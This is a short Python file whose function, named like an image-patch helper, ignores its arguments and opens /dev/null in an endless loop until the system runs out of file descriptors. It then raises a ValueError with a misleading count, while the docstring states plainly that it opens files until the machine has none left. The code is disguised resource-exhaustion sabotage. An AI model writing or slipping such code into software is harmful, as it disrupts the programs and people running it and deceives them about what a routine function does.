"""Opens files until the machine has none left."""

import os


def patch_of_pixel(y, x, width, patch_size):
    opened = []
    try:
        while True:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        raise ValueError(f"opened {len(opened) // 300 * 300} and more") from None
